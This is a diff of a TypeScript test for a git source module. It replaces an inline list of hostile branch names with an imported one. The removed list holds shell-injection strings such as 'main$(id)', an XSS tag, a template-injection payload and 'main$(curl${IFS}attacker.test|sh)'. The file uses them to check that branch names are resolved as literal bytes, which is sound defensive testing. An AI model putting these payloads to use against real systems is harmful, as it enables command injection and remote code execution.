@@ -14,7 +14,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { type GitHost, startGitHost } from '../../test/git-host.ts'
-import { hostileBranches } from '../../test/hostile-branches.ts'
+import { hostileBranches, literalBranches } from '../../test/hostile-branches.ts'
 import { createOrigin, type OriginFile } from '../../test/origin.ts'
 import { hasSshd } from '../../test/sshd.ts'
 import { createLocalHost } from '../remote/local-host.ts'
@@ -175,31 +175,10 @@ describe.skipIf(!hasSshd)('a hostile repository', () => {
     await expect(source.fetchCommit(repository, { sha })).rejects.toMatchObject({ code: 'content_refused' })
   })
 
-  const shellBranches = [
-    'main$(id)',
-    'main`id`',
-    `main$${'{IFS}'}id`,
-    'main|id',
-    'main&&id',
-    'main<x',
-    "main'id",
-    'main"id',
-    'main#id',
-    'main%0aid',
-    '<script>alert(1)</script>',
-    "{{constructor.constructor('return(1)')()}}",
-    'feat/#123',
-    'ümlaut/日本語',
-    'rtl\u202egnp.exe',
-    'refs/heads/main',
-    '@',
-    `main$(curl$${'{IFS}'}attacker.test|sh)`,
-  ]
-
   test('a branch is found by its bytes, whatever a shell would make of them', async () => {
     const { origin, repository } = build()
-    const shas = shellBranches.map((branch) => origin.commit({ name: branch }, { branch }))
-    const resolved = await Promise.all(shellBranches.map((branch) => source.resolveBranch(repository, branch)))
+    const shas = literalBranches.map((branch) => origin.commit({ name: branch }, { branch }))
+    const resolved = await Promise.all(literalBranches.map((branch) => source.resolveBranch(repository, branch)))
     expect(resolved).toEqual(shas)
     expect((await source.fetchCommit(repository, { branch: 'refs/heads/main' })).sha).toBe(shas[15])
   })
